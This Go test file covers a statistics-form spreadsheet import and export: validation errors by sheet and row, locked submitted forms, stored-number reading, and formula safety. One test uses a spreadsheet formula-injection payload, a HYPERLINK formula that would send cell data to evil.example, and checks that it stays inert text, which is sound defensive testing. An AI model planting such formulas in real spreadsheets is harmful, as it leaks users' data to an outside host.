package stats_test

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	"kexie/internal/db"
	"kexie/internal/db/dbtest"
	"kexie/internal/sheet"
	"kexie/internal/stats"

	"github.com/xuri/excelize/v2"
)

// key is a translator that names the key and its arguments; the code
// column's header is the catalog's, which the import looks for.
func key(k string, a ...any) string {
	if k == "stats.xlsx.code" {
		return "代码"
	}
	return k + fmt.Sprint(a...)
}

// fill writes values (by code) and notes into the value and note columns
// of a form's workbook, and extra rows at the end of the first sheet,
// then reads it back as an upload would be.
func fill(t *testing.T, tabs []sheet.Table, values, notes map[string]string, extra ...[]string) []sheet.BookSheet {
	t.Helper()
	orig := tabs
	tabs = make([]sheet.Table, len(orig))
	for i, tab := range orig {
		tabs[i] = sheet.Table{Sheet: tab.Sheet, Headers: tab.Headers}
		for _, row := range tab.Rows {
			tabs[i].Rows = append(tabs[i].Rows, append([]string(nil), row...))
		}
	}
	for i := range tabs {
		for _, row := range tabs[i].Rows {
			if v, ok := values[row[0]]; ok {
				row[4] = v
			}
			if n, ok := notes[row[0]]; ok {
				row[5] = n
			}
		}
	}
	tabs[0].Rows = append(tabs[0].Rows, extra...)
	var buf bytes.Buffer
	if err := sheet.WriteXLSX(&buf, tabs...); err != nil {
		t.Fatal(err)
	}
	book, err := sheet.ReadBook(&buf, stats.BookLimits, stats.BookMaxSheets)
	if err != nil {
		t.Fatal(err)
	}
	return book
}

// The form downloads as a workbook of one sheet per table (the rows asked
// of the org, last year's figures, the live suggestions of a new form); a
// workbook filled in goes into the draft through the form's checks; every
// bad cell is named by sheet and row and a failed import changes nothing;
// a submitted form takes no import.
func TestImportWorkbook(t *testing.T) {
	dbtest.Run(t, sets, func(t *testing.T, d *db.DB) {
		f := setup(t, d)
		ctx := context.Background()
		tabs, err := f.s.Book(ctx, f.county.ID, 2026, "zh-CN", key)
		must(t, err)
		if len(tabs) != 6 || tabs[0].Sheet != "stats.tableA组织建设" || len(tabs[0].Headers) != 6 || tabs[0].Rows[0][0] != "A01" {
			t.Fatalf("book = %+v", tabs[0])
		}
		var d01 string
		for _, tab := range tabs {
			for _, r := range tab.Rows {
				if r[0] == "D01" {
					d01 = r[4]
				}
			}
		}
		if d01 != "20" { // the county's subtree: county and town, ten each
			t.Errorf("D01 suggested %q", d01)
		}
		soc, err := f.s.Book(ctx, f.soc.ID, 2026, "en", key)
		must(t, err)
		for _, r := range soc[0].Rows {
			if r[0] == "A01" {
				t.Error("a society's workbook asks for 所属学会数")
			}
		}

		// Bad cells: nothing saved, each named.
		bad := full().Raw
		bad["B01"], bad["F01"] = "一百", "1.234"
		book := fill(t, tabs, bad, map[string]string{"D02": strings.Repeat("长", stats.MaxNote+1)},
			[]string{"Z99", "x", "", "", "5"}, []string{"B03", "", "", "", "1"}, []string{"", "", "", "", "7"}, []string{"A07", "", "", "", "1"})
		_, errs, err := f.s.Import(ctx, f.county.ID, 2026, book, filer)
		wantCode(t, err, "stats.err.import")
		// Every problem, in the workbook's order: 表A holds seven rows (2–8),
		// the extra rows are 9 to 12; B03 on it comes before 表B's own row.
		var got []string
		for _, e := range errs {
			what := e.Key
			if e.Issue != nil {
				what = e.Issue.Code + " " + e.Issue.Rule
			}
			got = append(got, fmt.Sprintf("%s:%d %s", e.Place.Sheet, e.Place.Line, what))
		}
		want := []string{"stats.tableA组织建设:9 stats.xlsx.unknown_code", "stats.tableA组织建设:11 stats.xlsx.no_code", "stats.tableA组织建设:12 stats.xlsx.not_asked",
			"stats.tableB人员:2 B01 number", "stats.tableB人员:4 stats.xlsx.duplicate", "stats.tableD科普:3 D02 note_long", "stats.tableF经费:2 F01 scale"}
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Fatalf("errors:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		if msg := f.s.BookMessage("zh-CN", key, errs[4]); msg != "stats.xlsx.atstats.tableB人员4stats.xlsx.duplicateB03stats.tableA组织建设10" {
			t.Errorf("message = %s", msg)
		}
		if n := count(t, d, `SELECT COUNT(*) FROM stats_forms`); n != 0 {
			t.Fatal("a workbook with bad rows saved a form")
		}

		// A draft saved by hand; an import over it keeps the rows it leaves
		// out and breaks a rule as a draft may (women above members).
		_, err = f.s.Save(ctx, f.county.ID, 2026, stats.Input{Raw: map[string]string{"A08": "77", "B01": "3"}}, filer)
		must(t, err)
		tabs, _ = f.s.Book(ctx, f.county.ID, 2026, "zh-CN", key)
		for i := range tabs { // leave out 表A
			if tabs[i].Rows[0][0] == "A01" {
				tabs = append(tabs[:i], tabs[i+1:]...)
				break
			}
		}
		in := full().Raw
		in["B02"] = "50"
		res, errs, err := f.s.Import(ctx, f.county.ID, 2026, fill(t, tabs, in, nil), filer)
		must(t, err)
		if len(errs) != 0 || res.Form.Status != stats.Draft || res.Form.Values["A08"] != 77 || res.Form.Values["B01"] != 10 || res.Form.Values["F01"] != 10000 {
			t.Fatalf("imported = %+v", res.Form.Values)
		}
		if len(res.Issues) != 1 || res.Issues[0].Code != "B02" || res.Issues[0].Rule != "part" {
			t.Errorf("findings = %+v", res.Issues)
		}
		if n := count(t, d, `SELECT COUNT(*) FROM stats_events WHERE action = 'save' AND note = 'XLSX'`); n != 1 {
			t.Errorf("import events: %d", n)
		}
		if n := count(t, d, `SELECT COUNT(*) FROM audit_log WHERE action = 'stats.save' AND summary LIKE '%xlsx%'`); n != 1 {
			t.Errorf("import audit entries: %d", n)
		}

		// Last year's workbook, or one with a column inserted, is refused
		// at its header.
		old, err := f.s.Book(ctx, f.county.ID, 2025, "zh-CN", key)
		must(t, err)
		_, errs, err = f.s.Import(ctx, f.county.ID, 2026, fill(t, old, in, nil), filer)
		wantCode(t, err, "stats.err.import")
		if len(errs) != 6 || errs[0].Key != "stats.xlsx.value_column" || errs[0].Place.Line != 1 {
			t.Errorf("last year's workbook: %+v", errs)
		}
		moved := fill(t, tabs, in, nil)
		for i := range moved {
			for j := range moved[i].Rows {
				r := &moved[i].Rows[j]
				r.Cells = append([]string{r.Cells[0], "备注"}, r.Cells[1:]...)
			}
		}
		_, errs, err = f.s.Import(ctx, f.county.ID, 2026, moved, filer)
		wantCode(t, err, "stats.err.import")
		if len(errs) == 0 || errs[0].Key != "stats.xlsx.value_column" {
			t.Errorf("a column inserted: %+v", errs)
		}

		// Submitted: no import.
		in["B02"] = "5"
		_, err = f.s.Submit(ctx, f.county.ID, 2026, stats.Input{Raw: in}, filer)
		must(t, err)
		_, _, err = f.s.Import(ctx, f.county.ID, 2026, fill(t, tabs, in, nil), filer)
		wantCode(t, err, "stats.err.locked")
		// A workbook of sheets with no rows imports nothing.
		_, _, err = f.s.Import(ctx, f.soc.ID, 2026, []sheet.BookSheet{{Name: "x"}}, filer)
		wantCode(t, err, "stats.err.import_empty")
	})
}

// Text in a workbook stays text: an explanation that looks like a formula
// is written as a string, never as a formula Excel would run.
func TestBookFormulaText(t *testing.T) {
	dbtest.Run(t, sets, func(t *testing.T, d *db.DB) {
		f := setup(t, d)
		ctx := context.Background()
		in := full()
		evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
		in.Notes["D01"] = evil
		_, err := f.s.Save(ctx, f.county.ID, 2026, in, filer)
		must(t, err)
		tabs, err := f.s.Book(ctx, f.county.ID, 2026, "zh-CN", key)
		must(t, err)
		var buf bytes.Buffer
		must(t, sheet.WriteXLSX(&buf, tabs...))
		x, err := excelize.OpenReader(&buf)
		must(t, err)
		defer x.Close()
		name := tabs[3].Sheet
		rows, _ := x.GetRows(name)
		for i, r := range rows {
			if len(r) > 5 && r[0] == "D01" {
				cell := fmt.Sprintf("F%d", i+1)
				if fm, _ := x.GetCellFormula(name, cell); fm != "" || r[5] != evil {
					t.Errorf("D01's explanation: formula %q, text %q", fm, r[5])
				}
				return
			}
		}
		t.Errorf("no D01 row in %s: %q", name, rows)
	})
}

// A number cell is read as stored, not as its format shows it: 1234.5 in a
// "#,##0" cell is 1234.50, not 1235; a sum's binary noise is dropped; a
// percentage or a date is refused, not read as its stored fraction.
func TestImportStoredNumbers(t *testing.T) {
	dbtest.Run(t, sets, func(t *testing.T, d *db.DB) {
		f := setup(t, d)
		ctx := context.Background()
		tabs, err := f.s.Book(ctx, f.county.ID, 2026, "zh-CN", key)
		must(t, err)
		var buf bytes.Buffer
		must(t, sheet.WriteXLSX(&buf, tabs...))
		x, err := excelize.OpenReader(&buf)
		must(t, err)
		defer x.Close()
		grouped, _ := x.NewStyle(&excelize.Style{NumFmt: 3}) // #,##0
		pct, _ := x.NewStyle(&excelize.Style{NumFmt: 9})     // 0%
		set := func(code string, v any, style int) {
			for _, name := range x.GetSheetList() {
				rows, _ := x.GetRows(name)
				for i, r := range rows {
					if len(r) > 0 && r[0] == code {
						cell := fmt.Sprintf("E%d", i+1)
						x.SetCellValue(name, cell, v)
						if style >= 0 {
							x.SetCellStyle(name, cell, cell, style)
						}
					}
				}
			}
		}
		set("F06", 1234.5, grouped)
		set("F07", 0.1+0.2, -1)
		set("E04", 0.5, pct)
		buf.Reset()
		_, err = x.WriteTo(&buf)
		must(t, err)
		book, err := sheet.ReadBook(&buf, stats.BookLimits, stats.BookMaxSheets)
		must(t, err)
		_, errs, err := f.s.Import(ctx, f.county.ID, 2026, book, filer)
		wantCode(t, err, "stats.err.import")
		if len(errs) != 1 || errs[0].Issue == nil || errs[0].Issue.Code != "E04" || errs[0].Issue.Rule != "number" {
			t.Fatalf("errors = %+v", errs)
		}
		set("E04", 5, 0) // the default style: General
		buf.Reset()
		_, err = x.WriteTo(&buf)
		must(t, err)
		book, err = sheet.ReadBook(&buf, stats.BookLimits, stats.BookMaxSheets)
		must(t, err)
		res, errs, err := f.s.Import(ctx, f.county.ID, 2026, book, filer)
		must(t, err)
		if len(errs) != 0 || res.Form.Values["F06"] != 123450 || res.Form.Values["F07"] != 30 || res.Form.Values["E04"] != 500 {
			t.Errorf("imported F06 %d, F07 %d, E04 %d", res.Form.Values["F06"], res.Form.Values["F07"], res.Form.Values["E04"])
		}
	})
}
